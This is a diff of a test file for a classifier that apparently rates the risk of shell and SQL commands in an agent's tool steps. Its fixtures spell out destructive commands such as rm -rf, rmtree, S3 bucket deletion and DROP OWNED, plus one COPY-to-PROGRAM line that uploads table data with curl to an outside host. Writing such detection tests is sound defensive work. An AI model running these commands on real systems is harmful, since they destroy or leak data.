@@ -46,7 +46,8 @@ describe("SQL in arguments", () => {
     ["PREPARE purge AS DELETE FROM users WHERE id = $1; EXECUTE purge(7)", "write", true, "`DELETE FROM`"],
     ["SELECT * INTO users_backup FROM users", "write", false, "`SELECT INTO`"],
     ["COPY users TO PROGRAM 'curl -T - https://x.example'", "write", true, "`COPY ... TO PROGRAM`"],
-    ["DO $$ BEGIN DELETE FROM users; END $$", "write", false, "`DO` block"],
+     // The block's body deletes every row: destructive (it was read as a plain write before the body was looked at).
+    ["DO $$ BEGIN DELETE FROM users; END $$", "write", true, "`DO` block"],
   ])("%s", (sql, risk, destructive, what) => {
     const r = runSql(sql);
     expect([r.risk, r.destructive]).toEqual([risk, destructive]);
@@ -193,6 +194,66 @@ describe("shell commands in arguments", () => {
     expect(commandEffects("kubectl --context prod-eu-1 delete pod x")[0]?.production).toBe("prod-eu-1");
     expect(commandEffects("kubectl --context staging delete pod x")[0]?.production).toBeUndefined();
     expect(commandEffects("kubectl -n products delete pod x")[0]?.production).toBeUndefined();
+  });
+});
+
+describe("code handed to an interpreter, procedures and maintenance SQL (passed the gate at 963be19)", () => {
+  it.each([
+    [`python3 -c "import shutil; shutil.rmtree('/srv/app/data')"`, "write", true, "`python3 shutil.rmtree`"],
+    [`python -c "import os; os.remove('/etc/app.conf')"`, "write", true, "`python os.remove`"],
+    [`python3 -c "from pathlib import Path; Path('/data/x.db').unlink()"`, "write", true, "`python3 unlink`"],
+    [`python3 -c "open('/etc/hosts', 'a').write('10.0.0.1 db')"`, "write", false, "`python3 open(…, \"w\")`"],
+    [`python3 -c "import requests; requests.post('https://api.example.com/refunds', json={'id': 7})"`, "external", false, "`python3 requests.post`"],
+    [`python -c 'import boto3; boto3.resource("s3").Bucket("prod").objects.all().delete()'`, "write", true, "`python delete()`"],
+    [`python3 -c "import subprocess; subprocess.run(['kubectl', 'delete', 'ns', 'prod'])"`, "external", true, "`kubectl delete`"],
+    [`python3 -c "import os; os.system('rm -rf /var/lib/app')"`, "write", true, "`rm -rf`"],
+    [`node -e "require('fs').rmSync('/var/cache/app', { recursive: true, force: true })"`, "write", true, "`node rmSync`"],
+    [`node -e "require('fs').writeFileSync('/etc/motd', 'hi')"`, "write", false, "`node writeFileSync`"],
+    [`node -e "fetch('https://api.example.com/users/7', { method: 'DELETE' })"`, "external", true, "`node method DELETE`"],
+    [`node -e "require('child_process').execSync('git push --force origin main')"`, "external", true, "`git push --force`"],
+    [`ruby -e 'require "fileutils"; FileUtils.rm_rf("/srv/data")'`, "write", true, "`ruby FileUtils.rm_rf`"],
+    [`perl -e 'unlink glob "/var/log/app/*"'`, "write", true, "`perl unlink`"],
+    [`php -r 'unlink("/var/www/index.php");'`, "write", true, "`php unlink`"],
+    [`python3 -c "import sqlite3; sqlite3.connect('app.db').execute('DELETE FROM users')"`, "write", true, "`python3 execute(DELETE FROM)`"],
+    ["alias wipe='rm -rf'\nwipe /data", "write", true, "`rm -rf`"],
+    [`psql -c "CALL purge_all_customers()"`, "write", true, "`psql CALL purge_all_customers`"],
+    [`psql -c "CALL refresh_stats()"`, "write", false, "`psql CALL refresh_stats`"],
+    [`psql -c "VACUUM FULL orders"`, "write", false, "`psql VACUUM FULL`"],
+    [`psql -c "REFRESH MATERIALIZED VIEW daily_sales"`, "write", false, "`psql REFRESH MATERIALIZED VIEW`"],
+    [`psql -c "DROP OWNED BY app_user"`, "write", true, "`psql DROP OWNED`"],
+    [`psql -c "DO \$\$ BEGIN EXECUTE 'DROP TABLE ' || 'orders'; END \$\$"`, "write", true, "`psql DO block`"],
+  ])("%s", (command, risk, destructive, what) => {
+    const r = runCommand(command);
+    expect([r.risk, r.destructive]).toEqual([risk, destructive]);
+    expect(r.cause?.reason).toBe(`${what} in \`with.command\``);
+  });
+
+  it("the argv form reads the same code", () => {
+    const r = stepRisk(SHELL, `kind: read\ngoal: Tidy it\ntool: shell.run\nwith: { command: python3, args: ["-c", "import shutil; shutil.rmtree('/srv/data')"] }`);
+    expect([r.risk, r.destructive]).toEqual(["write", true]);
+  });
+
+  it.each([
+    `python3 -c "import json; print(len(json.load(open('orders.json'))))"`,
+    `python3 -c "print('never call shutil.rmtree here')"`,
+    `python3 -c "import requests; print(requests.get('https://status.example.com').status_code)"`,
+    `python3 -c "open('report.csv', 'rb').read()"`,
+    `node -e "console.log(require('fs').readFileSync('package.json', 'utf8').length)"`,
+    `node -e "console.log(/rm -rf/.exec('x'))"`,
+    `ruby -e 'puts File.read("app.log").lines.count'`,
+    `perl -ne 'print if /ERROR/' app.log`,
+    `php -r 'echo json_encode(["ok" => true]);'`,
+    `psql -c "VACUUM ANALYZE orders"`,
+    `psql -c "EXPLAIN SELECT * FROM orders"`,
+    `psql -c "SELECT count(*) FROM orders"`,
+    "alias ll='ls -la'\nll /srv",
+  ])("reads: %s", (command) => {
+    expect(runCommand(command).risk).toBe("read");
+  });
+
+  it("CALL and VACUUM are words in prose and in a search query", () => {
+    expect(sqlEffects("call the support line and vacuum the lobby", "weak")).toEqual([]);
+    expect(sqlEffects("CALL purge_old()", "strong")).toEqual([{ risk: "write", destructive: true, what: "`CALL purge_old`" }]);
   });
 });
 
